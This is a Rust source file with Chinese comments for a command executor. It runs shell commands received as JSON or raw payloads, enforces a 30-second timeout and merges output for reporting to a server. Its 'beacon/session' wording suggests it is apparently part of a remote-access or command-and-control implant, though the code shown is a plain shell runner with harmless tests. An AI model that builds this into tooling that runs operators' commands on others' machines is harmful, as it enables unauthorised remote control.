// 命令执行模块
//
// 负责执行系统 shell 命令并捕获输出，跨平台（Windows/Linux/MacOS）。
// 统一 30 秒硬超时：超时会杀掉子进程，但已捕获的部分输出仍然返回。
// Windows 使用 encoding_rs 正确解码 GBK 编码，其他平台使用 UTF-8。

#[cfg(target_os = "windows")]
use encoding_rs::GBK;
use log::{debug, error};
use std::process::Stdio;
use std::time::Duration;
use tokio::io::AsyncReadExt;
use tokio::process::Command;

/// shell 执行硬超时
const SHELL_TIMEOUT: Duration = Duration::from_secs(30);

/// 一次 shell 执行的结果
///
/// `output` 是修剪后的 stdout+stderr 合并文本；
/// `error` 区分超时与非零退出两类失败，两者都不丢弃已捕获的输出。
#[derive(Debug, Clone)]
pub struct ShellResult {
    pub output: String,
    pub error: Option<String>,
}

impl ShellResult {
    /// 汇成上报给服务端的单一输出串
    pub fn into_report_output(self) -> String {
        match self.error {
            None => self.output,
            Some(err) if self.output.is_empty() => format!("Error: {}", err),
            Some(err) => format!("{}\nError: {}", self.output, err),
        }
    }
}

/// 命令执行器
pub struct CommandExecutor;

impl CommandExecutor {
    /// 根据操作系统获取 shell 路径和参数
    ///
    /// - Windows: `("cmd.exe", "/c")`
    /// - Linux/MacOS: `("sh", "-c")`
    pub fn get_shell() -> (&'static str, &'static str) {
        #[cfg(target_os = "windows")]
        {
            ("cmd.exe", "/c")
        }

        #[cfg(not(target_os = "windows"))]
        {
            ("sh", "-c")
        }
    }

    /// 解析 shell 命令载荷
    ///
    /// 支持三种形态：
    /// - JSON 对象且带 `command` 字段：`{"command": "ls -la"}`
    /// - JSON 字符串：`"pwd"`
    /// - 原始字符串：`pwd`
    pub fn parse_shell_payload(data: &str) -> Result<String, String> {
        let raw = data.trim();
        if raw.is_empty() {
            return Err("received empty command string".to_string());
        }

        if let Ok(value) = serde_json::from_str::<serde_json::Value>(raw) {
            match value {
                serde_json::Value::Object(map) => {
                    return match map.get("command").and_then(|v| v.as_str()) {
                        Some(cmd) if !cmd.trim().is_empty() => Ok(cmd.to_string()),
                        Some(_) => Err("received empty 'command' value in JSON object".to_string()),
                        None => Err("JSON does not contain 'command' key".to_string()),
                    };
                }
                serde_json::Value::String(s) => return Ok(s),
                _ => {}
            }
        }
        // 非 JSON：按原始字符串处理，剥掉可能的引号
        Ok(raw.trim_matches('"').to_string())
    }

    /// beacon/session 共用的 shell 入口：解析载荷 → 执行 → 汇出单一字符串
    pub async fn shell_command(data: &str) -> String {
        match Self::parse_shell_payload(data) {
            Ok(command) => Self::run(&command).await.into_report_output(),
            Err(e) => format!("Error: Failed to process 'shell' command: {}", e),
        }
    }

    /// 执行 shell 命令，30 秒硬超时
    ///
    /// 超时会强杀子进程并在结果中标注 timeout 错误；
    /// 非零退出同样标注，两种情况都保留已捕获的输出。
    pub async fn run(command: &str) -> ShellResult {
        let (shell, shell_arg) = Self::get_shell();
        debug!("Executing shell command: {}", command);

        let mut child = match Command::new(shell)
            .arg(shell_arg)
            .arg(command)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
        {
            Ok(child) => child,
            Err(e) => {
                error!("Failed to spawn shell: {}", e);
                return ShellResult {
                    output: String::new(),
                    error: Some(format!("failed to start command: {}", e)),
                };
            }
        };

        // 持续读 stdout/stderr，这样超时被杀时也能拿到部分输出
        let mut stdout_pipe = child.stdout.take();
        let mut stderr_pipe = child.stderr.take();
        let stdout_task = tokio::spawn(async move {
            let mut buf = Vec::new();
            if let Some(pipe) = stdout_pipe.as_mut() {
                let _ = pipe.read_to_end(&mut buf).await;
            }
            buf
        });
        let stderr_task = tokio::spawn(async move {
            let mut buf = Vec::new();
            if let Some(pipe) = stderr_pipe.as_mut() {
                let _ = pipe.read_to_end(&mut buf).await;
            }
            buf
        });

        let mut timed_out = false;
        let mut exit_error: Option<String> = None;
        match tokio::time::timeout(SHELL_TIMEOUT, child.wait()).await {
            Ok(Ok(status)) => {
                if !status.success() {
                    exit_error = Some(format!("command execution failed: {}", status));
                }
            }
            Ok(Err(e)) => {
                exit_error = Some(format!("failed to wait for command: {}", e));
            }
            Err(_) => {
                timed_out = true;
                if let Err(e) = child.kill().await {
                    error!("Failed to kill timed-out shell process: {}", e);
                }
            }
        }

        let stdout_bytes = stdout_task.await.unwrap_or_default();
        let stderr_bytes = stderr_task.await.unwrap_or_default();
        let stdout = Self::decode_output(&stdout_bytes);
        let stderr = Self::decode_output(&stderr_bytes);

        let mut combined = stdout.trim().to_string();
        let trimmed_stderr = stderr.trim();
        if !trimmed_stderr.is_empty() {
            if !combined.is_empty() {
                combined.push('\n');
            }
            combined.push_str("Stderr: ");
            combined.push_str(trimmed_stderr);
        }

        let error = if timed_out {
            Some(format!(
                "command timed out after {} seconds",
                SHELL_TIMEOUT.as_secs()
            ))
        } else {
            exit_error
        };

        ShellResult {
            output: combined,
            error,
        }
    }

    /// 解码命令输出
    ///
    /// Windows 优先尝试 UTF-8，失败时回退 GBK（中文系统的 cmd.exe 输出）。
    #[cfg(target_os = "windows")]
    fn decode_output(bytes: &[u8]) -> String {
        if let Ok(text) = std::str::from_utf8(bytes) {
            return text.to_string();
        }
        let (decoded, _encoding_used, _had_errors) = GBK.decode(bytes);
        decoded.to_string()
    }

    #[cfg(not(target_os = "windows"))]
    fn decode_output(bytes: &[u8]) -> String {
        String::from_utf8_lossy(bytes).to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_get_shell() {
        let (shell, arg) = CommandExecutor::get_shell();
        #[cfg(target_os = "windows")]
        {
            assert_eq!(shell, "cmd.exe");
            assert_eq!(arg, "/c");
        }
        #[cfg(not(target_os = "windows"))]
        {
            assert_eq!(shell, "sh");
            assert_eq!(arg, "-c");
        }
    }

    #[test]
    fn test_parse_shell_payload_json_object() {
        let cmd = CommandExecutor::parse_shell_payload(r#"{"command": "ls -la"}"#).unwrap();
        assert_eq!(cmd, "ls -la");
    }

    #[test]
    fn test_parse_shell_payload_json_string() {
        let cmd = CommandExecutor::parse_shell_payload(r#""echo hi""#).unwrap();
        assert_eq!(cmd, "echo hi");
    }

    #[test]
    fn test_parse_shell_payload_raw_string() {
        let cmd = CommandExecutor::parse_shell_payload("pwd").unwrap();
        assert_eq!(cmd, "pwd");
    }

    #[test]
    fn test_parse_shell_payload_empty() {
        assert!(CommandExecutor::parse_shell_payload("").is_err());
        assert!(CommandExecutor::parse_shell_payload("   ").is_err());
    }

    #[test]
    fn test_parse_shell_payload_object_without_command() {
        assert!(CommandExecutor::parse_shell_payload(r#"{"other": "x"}"#).is_err());
    }

    #[tokio::test]
    async fn test_run_simple_command() {
        let result = CommandExecutor::run("echo hello").await;
        assert!(result.error.is_none());
        assert_eq!(result.output, "hello");
    }

    #[tokio::test]
    async fn test_shell_command_end_to_end() {
        // 与会话协议一致的载荷形态："echo hi" 带 JSON 引号
        let output = CommandExecutor::shell_command("\"echo hi\"").await;
        assert_eq!(output, "hi");
    }

    #[tokio::test]
    async fn test_run_captures_stderr() {
        #[cfg(not(target_os = "windows"))]
        let result = CommandExecutor::run("echo boom >&2").await;
        #[cfg(target_os = "windows")]
        let result = CommandExecutor::run("echo boom 1>&2").await;

        assert!(result.output.contains("Stderr: boom"));
    }

    #[tokio::test]
    async fn test_run_nonzero_exit_keeps_output() {
        #[cfg(not(target_os = "windows"))]
        let result = CommandExecutor::run("echo partial; exit 3").await;
        #[cfg(target_os = "windows")]
        let result = CommandExecutor::run("echo partial & exit /b 3").await;

        assert!(result.output.contains("partial"));
        assert!(result.error.is_some());

        let report = result.into_report_output();
        assert!(report.contains("partial"));
        assert!(report.contains("Error:"));
    }

    #[tokio::test]
    async fn test_run_invalid_command_reports_error() {
        let result = CommandExecutor::run("this_command_does_not_exist_12345").await;
        // 失败信息要么进了 stderr 合并输出，要么进了 error
        assert!(!result.output.is_empty() || result.error.is_some());
    }

    #[tokio::test]
    async fn test_run_never_panics() {
        for cmd in ["", "echo test", "invalid_command_xyz"] {
            let _ = CommandExecutor::run(cmd).await;
        }
    }
}
